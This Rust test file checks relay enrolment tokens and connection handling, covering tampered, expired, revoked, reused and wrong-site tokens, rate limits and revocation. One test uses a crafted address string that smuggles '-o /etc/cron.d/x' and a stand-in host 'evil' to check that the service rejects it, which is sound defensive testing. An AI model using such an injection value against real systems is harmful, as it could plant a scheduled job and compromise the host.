//! Tokens let in whom they are for, and nobody else.

use super::Ledger;
use crate::link::{
    LinkLimits,
    relay::now_ms,
    testing::{FakeRelay, Place, World, eventually, hello, make_site, request},
};
use libp2p::identity::Keypair;
use std::{sync::Arc, time::Duration};
use unifyit_protocol::{
    enroll::{EnrollRelay, EnrollRelayAnswer},
    ids::SiteId,
    lane::Resume,
    link::{Frame, LinkHello},
    token::{TokenKind, TokenRefusal},
};

async fn world() -> World {
    World::new(|_, _, _| Arc::new(Arc::new(Ledger::default()))).await
}

async fn newcomer(world: &World) -> FakeRelay {
    FakeRelay::connect(&world.address, world.peer).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_lets_one_relay_in_and_its_papers_hold() {
    let world = world().await;
    let (_relay, enrolment) = world.enrolled(&world.place).await;
    assert_eq!(enrolment.site, world.place.site);
    assert_eq!(enrolment.authority, world.place.authority);
    let grant = enrolment.grant.verify(&world.place.authority).unwrap();
    assert_eq!((grant.site, grant.organization), (enrolment.site, enrolment.organization));
    assert!(grant.scopes.is_empty(), "it lets the relay sign nothing");
    assert!(grant.expires_ms > now_ms() + 170 * 24 * 3600 * 1000);
    let certificate = enrolment.site_certificate.verify(&world.place.authority).unwrap();
    assert_eq!(certificate.ca_fingerprint, [5; 32]);
    assert_eq!(world.scalar::<i32>("SELECT used FROM install_tokens").await, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_bad_token_is_refused_with_its_own_reason() {
    let world = world().await;
    let relay = newcomer(&world).await;
    let refused = |answer| match answer {
        EnrollRelayAnswer::Refused(why) => why,
        other => panic!("{other:?}"),
    };
    let relay_kind =
        || TokenKind::Relay { cloud_addresses: vec![], cloud_peer: world.peer.to_base58() };

    let good = world.sign(&world.relay_token(&world.place).await).await;
    let mut bent = good.clone().into_bytes();
    let at = bent.len() / 2;
    bent[at] = if bent[at] == b'A' { b'B' } else { b'A' };
    let bent = String::from_utf8(bent).unwrap();
    assert_eq!(refused(relay.enroll(request(&bent)).await), TokenRefusal::Tampered);
    assert_eq!(refused(relay.enroll(request("UIT1.")).await), TokenRefusal::Tampered);

    let old = world.token(&world.place, relay_kind(), "relay", now_ms() - 1, 1).await;
    let old = world.sign(&old).await;
    assert_eq!(refused(relay.enroll(request(&old)).await), TokenRefusal::Expired);

    let agent = TokenKind::Agent { relay_https: vec![], ca_fingerprint: [5; 32] };
    let agent = world.token(&world.place, agent, "agent", now_ms() + 60_000, 1).await;
    let agent = world.sign(&agent).await;
    assert_eq!(refused(relay.enroll(request(&agent)).await), TokenRefusal::WrongKind);

    // A true signature over claims that another row of the table stands for.
    let mut moved = world.relay_token(&world.place).await;
    moved.site = SiteId::generate();
    let moved = world.sign(&moved).await;
    assert_eq!(refused(relay.enroll(request(&moved)).await), TokenRefusal::Tampered);

    let revoked = world.relay_token(&world.place).await;
    let mut tx = world.db.db.tenant(&world.place.scope()).await.unwrap();
    sqlx::query("UPDATE install_tokens SET revoked_at = now() WHERE id = $1")
        .bind(revoked.id.0)
        .execute(&mut *tx)
        .await
        .unwrap();
    tx.commit().await.unwrap();
    let revoked = world.sign(&revoked).await;
    assert_eq!(refused(relay.enroll(request(&revoked)).await), TokenRefusal::Revoked);

    assert!(matches!(relay.enroll(request(&good)).await, EnrollRelayAnswer::Accepted(_)));
    let other = newcomer(&world).await;
    assert_eq!(refused(other.enroll(request(&good)).await), TokenRefusal::UsedUp);

    let elsewhere = Place { site: SiteId::generate(), ..world.place };
    make_site(&world.db, &elsewhere).await;
    let elsewhere = world.sign(&world.relay_token(&elsewhere).await).await;
    assert_eq!(refused(relay.enroll(request(&elsewhere)).await), TokenRefusal::WrongSite);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_second_relay_of_a_site_is_refused_until_the_first_is_revoked() {
    let world = world().await;
    let (first, _) = world.enrolled(&world.place).await;
    let token = world.sign(&world.relay_token(&world.place).await).await;
    let second = newcomer(&world).await;
    let EnrollRelayAnswer::Failed(why) = second.enroll(request(&token)).await else { panic!() };
    assert!(why.contains("has a relay already (relay-1)"), "{why}");
    assert_eq!(world.scalar::<i64>("SELECT sum(used) FROM install_tokens").await, 1);

    let mut tx = world.db.db.tenant(&world.place.scope()).await.unwrap();
    sqlx::query("UPDATE relays SET revoked_at = now()").execute(&mut *tx).await.unwrap();
    tx.commit().await.unwrap();
    assert!(matches!(second.enroll(request(&token)).await, EnrollRelayAnswer::Accepted(_)));
    let EnrollRelayAnswer::Failed(why) = first.enroll(request(&token)).await else { panic!() };
    assert!(why.contains("revoked"), "{why}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_enrolled_relay_gets_its_papers_again_without_spending_a_use() {
    let world = world().await;
    let keypair = Keypair::generate_ed25519();
    let relay = FakeRelay::connect_as(keypair.clone(), &world.address, world.peer).await;
    let token = world.sign(&world.relay_token(&world.place).await).await;
    let EnrollRelayAnswer::Accepted(first) = relay.enroll(request(&token)).await else { panic!() };
    drop(relay);
    let relay = FakeRelay::connect_as(keypair, &world.address, world.peer).await;
    let EnrollRelayAnswer::Accepted(second) = relay.enroll(request("")).await else { panic!() };
    assert_eq!(first.relay, second.relay);
    assert_eq!(world.scalar::<i32>("SELECT used FROM install_tokens").await, 1);
    let mut other_ca = request("");
    other_ca.ca_fingerprint = [6; 32];
    assert!(matches!(relay.enroll(other_ca).await, EnrollRelayAnswer::Failed(_)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_relay_calls_its_address_is_a_host_and_a_port() {
    const EVIL: &str = "evil:8443/a -o /etc/cron.d/x https://evil:8443";
    let world = world().await;
    let token = world.sign(&world.relay_token(&world.place).await).await;
    let relay = newcomer(&world).await;
    let asked = EnrollRelay { lan_https: vec![EVIL.into()], ..request(&token) };
    let EnrollRelayAnswer::Failed(why) = relay.enroll(asked).await else { panic!() };
    assert!(why.contains("no address"), "{why}");
    drop(relay);

    let (relay, _) = world.enrolled(&world.place).await;
    let hello = LinkHello {
        lan_https: vec![EVIL.into(), "relay.lan:8443".into()],
        sister_addresses: vec!["a b:1".into()],
        ..hello(1)
    };
    let _lane = relay.greet(hello, Resume::default()).await.unwrap();
    world.until("the address", "SELECT lan_https = '{relay.lan:8443}' FROM relays").await;
    assert!(world.scalar::<bool>("SELECT sister_addresses = '{}' FROM relays").await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_identity_is_made_where_relays_know_another() {
    let mut world = world().await;
    let (_relay, _) = world.enrolled(&world.place).await;
    let before = world.peer;
    let file = world.state.path().join("identity.key");
    world.restart().await;
    std::fs::remove_file(&file).unwrap();
    let error = world.bind().await.unwrap_err();
    assert!(error.to_string().contains("put that file back from the backup"), "{error}");
    assert!(!file.exists());
    // Lost for good, and somebody says so: another is made, once.
    std::fs::write(file.with_extension("key.lost"), "").unwrap();
    let peer = world.bind().await.unwrap().link().peer_id();
    assert_ne!(peer, before.to_base58());
    assert!(!file.with_extension("key.lost").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_unknown_peer_gets_no_lane_and_is_dropped() {
    let limits = LinkLimits {
        stranger_time: Duration::from_millis(1500),
        memory_share: 0.99,
        ..LinkLimits::default()
    };
    let world = World::with_limits(limits, |_, _, _| Arc::new(Arc::new(Ledger::default()))).await;
    let idle = newcomer(&world).await;
    let pushy = newcomer(&world).await;
    if let Some(mut lane) = pushy.try_lane(1, Resume::default()).await {
        assert_eq!(lane.recv().await, None, "no frame for a stranger");
    }
    for relay in [&idle, &pushy] {
        eventually("the stranger is dropped", || async {
            relay.closed.is_cancelled().then_some(())
        })
        .await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn enrolments_from_one_address_are_limited() {
    let limits = LinkLimits { enrolments_a_minute: 2, memory_share: 0.99, ..LinkLimits::default() };
    let world = World::with_limits(limits, |_, _, _| Arc::new(Arc::new(Ledger::default()))).await;
    let relay = newcomer(&world).await;
    for _ in 0..2 {
        assert!(matches!(relay.enroll(request("x")).await, EnrollRelayAnswer::Refused(_)));
    }
    let EnrollRelayAnswer::Failed(why) = relay.enroll(request("x")).await else { panic!() };
    assert!(why.contains("Wait a minute"), "{why}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn revoking_a_relay_closes_its_connection_and_keeps_it_out() {
    let world = world().await;
    let keypair = Keypair::generate_ed25519();
    let relay = FakeRelay::connect_as(keypair.clone(), &world.address, world.peer).await;
    let token = world.sign(&world.relay_token(&world.place).await).await;
    let EnrollRelayAnswer::Accepted(enrolment) = relay.enroll(request(&token)).await else {
        panic!("not enrolled")
    };
    let mut lane = relay.lane(1).await;
    let mut tx = world.db.db.tenant(&world.place.scope()).await.unwrap();
    sqlx::query("UPDATE relays SET revoked_at = now()").execute(&mut *tx).await.unwrap();
    tx.nudge_relay(enrolment.relay);
    tx.commit().await.unwrap();
    let mut said = String::new();
    while let Some(frame) = lane.recv().await {
        if let Frame::Goodbye(goodbye) = frame {
            said = goodbye.reason;
        }
    }
    assert!(said.contains("revoked"), "{said}");
    eventually("the connection is closed", || async { relay.closed.is_cancelled().then_some(()) })
        .await;
    world.until("it is offline", "SELECT NOT online FROM relays").await;
    // It is told so each time that it comes back.
    let relay = FakeRelay::connect_as(keypair, &world.address, world.peer).await;
    let mut lane = relay.try_lane(1, Resume::default()).await.unwrap();
    let Some(Frame::Goodbye(goodbye)) = lane.recv().await else { panic!("no word") };
    assert!(goodbye.reason.contains("revoked"), "{goodbye:?}");
    assert_eq!(lane.recv().await, None);
    assert!(!world.link.online(enrolment.relay));
}
